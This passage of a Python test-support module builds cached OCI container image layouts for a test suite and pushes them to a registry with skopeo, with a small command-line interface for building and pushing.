    "deep120": build_deep120,
    "deepdirs": build_deepdirs,
    "multiarch": build_multiarch,
    "bench": build_bench,
    "zstd": build_zstd,
    "configured": build_configured,
    "bomb": build_bomb,
}
# Pushed with `skopeo copy --all` (the whole index, not only the host's platform).
MULTI_PLATFORM = frozenset({"multiarch"})


# --------------------------------------------------------------------------------------------
# Building with a cache


@dataclass
class BuiltImage:
    name: str
    layout: Path
    tags: dict[str, ManifestRef]
    multi_platform: bool = False

    def tag(self, tag: str = "latest") -> ManifestRef:
        return self.tags[tag]

    @property
    def digest(self) -> str:
        """Digest of what `latest` points at (manifest, or index for multiarch)."""
        return self.tags["latest"].descriptor.digest


def default_cache_dir() -> Path:
    env = os.environ.get("ASYNCDOCK_IMAGE_CACHE")
    if env:
        return Path(env)
    xdg = os.environ.get("XDG_CACHE_HOME") or str(Path.home() / ".cache")
    return Path(xdg) / "asyncdock" / "test-images"


_BASE_CACHE: dict[str, tuple[BaseInfo, bytes]] = {}


def _base() -> tuple[BaseInfo, bytes]:
    if "base" not in _BASE_CACHE:
        info = base_info()
        _BASE_CACHE["base"] = (info, base_layer(info).tar())
    return _BASE_CACHE["base"]


def build_layout(name: str, dest: Path) -> BuiltImage:
    """Build image `name` into `dest` (a new directory), uncached."""
    if name not in BUILDERS:
        raise ImageBuildError(f"unknown image {name!r}; known: {', '.join(BUILDERS)}")
    info, base_tar = _base()
    writer = LayoutWriter(dest)
    BUILDERS[name](_Ctx(writer, info, base_tar))
    return BuiltImage(name, dest, writer.finish(), name in MULTI_PLATFORM)


def _ref_to_json(ref: ManifestRef) -> dict[str, Any]:
    return asdict(ref)


def _ref_from_json(d: dict[str, Any]) -> ManifestRef:
    return ManifestRef(
        Descriptor(**d["descriptor"]),
        platform=d["platform"],
        config_digest=d["config_digest"],
        layers=list(d["layers"]),
        diff_ids=list(d["diff_ids"]),
        children=[_ref_from_json(c) for c in d["children"]],
    )


@contextlib.contextmanager
def _locked(path: Path) -> Iterator[None]:
    # Tests, the demo and the bench may build at once; one builder per cache dir at a time.
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("a") as f:
        fcntl.flock(f, fcntl.LOCK_EX)
        try:
            yield
        finally:
            fcntl.flock(f, fcntl.LOCK_UN)


def cache_key() -> str:
    info, _ = _base()
    return f"v{BUILDER_VERSION}-{info.busybox_sha256[:12]}"


def build(name: str, cache_dir: Path | None = None) -> BuiltImage:
    """The cached layout of image `name`, building it if needed.

    A layout is built in a temporary sibling directory and renamed into place with its
    info.json, so a crashed build never leaves a half-written layout that looks complete.
    """
    root = (cache_dir or default_cache_dir()) / cache_key()
    final = root / name
    info_path = final / "info.json"
    with _locked(root / ".lock"):
        if info_path.exists():
            data = json.loads(info_path.read_text())
            return BuiltImage(name, final / "layout", {t: _ref_from_json(r) for t, r in data["tags"].items()},
                              bool(data["multi_platform"]))
        if final.exists():
            shutil.rmtree(final)
        tmp = Path(tempfile.mkdtemp(prefix=f".tmp-{name}-", dir=root))
        try:
            built = build_layout(name, tmp / "layout")
            (tmp / "info.json").write_text(json.dumps({
                "name": name,
                "multi_platform": built.multi_platform,
                "tags": {t: _ref_to_json(r) for t, r in built.tags.items()},
            }, indent=1))
            os.rename(tmp, final)
        except BaseException:
            shutil.rmtree(tmp, ignore_errors=True)
            raise
    return BuiltImage(name, final / "layout", built.tags, built.multi_platform)


def build_all(names: Sequence[str] | None = None, cache_dir: Path | None = None) -> dict[str, BuiltImage]:
    return {n: build(n, cache_dir) for n in (names or BUILDERS)}


# --------------------------------------------------------------------------------------------
# Pushing


class PushError(RuntimeError):
    pass


def push(
    layout_dir: Path | str,
    ref: str,
    registry: str,
    *,
    all_platforms: bool = False,
    creds: str | None = None,
    src_tag: str | None = None,
    format: Literal["oci", "v2s2"] | None = None,
    timeout: float = 600,
) -> None:
    """Copy tag `src_tag` (default: the tag of `ref`) of an OCI layout to `registry/ref`.

    `ref` is "REPO:TAG" (e.g. "library/busybox:latest"), `registry` "HOST:PORT". Without a
    `format` the manifest is copied byte for byte (--preserve-digests), so the registry digest
    equals the built one; `format="v2s2"` converts to Docker's schema 2 media types.
    """
    repo, sep, tag = ref.rpartition(":")
    if not sep or "/" in tag:
        repo, tag = ref, "latest"
    cmd = [SKOPEO, "--insecure-policy", "copy", "--quiet", "--dest-tls-verify=false"]
    if all_platforms:
        cmd.append("--all")
    if format is None:
        cmd.append("--preserve-digests")
    else:
        cmd += ["--format", format]
    cmd += ["--dest-creds", creds] if creds else ["--dest-no-creds"]
    cmd += [f"oci:{layout_dir}:{src_tag or tag}", f"docker://{registry}/{repo}:{tag}"]
    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=timeout, env=skopeo_env())
    if proc.returncode != 0:
        raise PushError(f"{' '.join(cmd)} failed ({proc.returncode}):\n{proc.stdout}{proc.stderr}")


def push_image(image: BuiltImage, registry: str, *, repo: str | None = None, creds: str | None = None,
               tags: Sequence[str] | None = None) -> list[str]:
    """Push every tag (or `tags`) of a built image as REPO:TAG; returns the refs pushed."""
    repo = repo or f"library/{image.name}"
    refs = []
    for tag in tags or image.tags:
        push(image.layout, f"{repo}:{tag}", registry, all_platforms=image.multi_platform, creds=creds)
        refs.append(f"{registry}/{repo}:{tag}")
    return refs


def skopeo_env() -> dict[str, str]:
    """Environment for skopeo that uses only credentials passed on its command line.

    containers/image otherwise falls back to ~/.docker/config.json and other auth files, so a
    `docker login` elsewhere could make an "anonymous" test pass.
    """
    env = dict(os.environ)
    auth = default_cache_dir() / "skopeo-auth.json"
    if not auth.exists():
        auth.parent.mkdir(parents=True, exist_ok=True)
        auth.write_text("{}")
    env["REGISTRY_AUTH_FILE"] = str(auth)
    return env


def _main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m tests.support.imagebuild", description=__doc__.split("\n\n")[0])
    parser.add_argument("--cache", type=Path, default=None, help=f"cache dir (default: {default_cache_dir()})")
    sub = parser.add_subparsers(dest="cmd", required=True)
    b = sub.add_parser("build", help="build (cached) and print layout dirs")
    b.add_argument("names", nargs="*", metavar="NAME", help=f"default: all of {', '.join(BUILDERS)}")
    p = sub.add_parser("push", help="build (cached) and push every tag to HOST:PORT/REPO")
    p.add_argument("name", choices=list(BUILDERS))
    p.add_argument("registry", help="HOST:PORT")
    p.add_argument("--repo", default=None, help="default: library/NAME")
    p.add_argument("--creds", default=None, help="USER:PASSWORD")
    p.add_argument("--tag", action="append", default=None, help="push only this tag (repeatable)")
    args = parser.parse_args(argv)
    try:
        unknown = [n for n in getattr(args, "names", []) if n not in BUILDERS]
        if unknown:
            parser.error(f"unknown image(s) {', '.join(unknown)}; known: {', '.join(BUILDERS)}")
        if args.cmd == "build":
            for name, image in build_all(args.names or None, args.cache).items():
                print(f"{name}\t{image.layout}\t{image.digest}")
        else:
            image = build(args.name, args.cache)
            for ref in push_image(image, args.registry, repo=args.repo, creds=args.creds, tags=args.tag):
                print(ref)
    except (ImageBuildError, PushError, subprocess.CalledProcessError) as e:
        print(f"imagebuild: {e}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(_main())
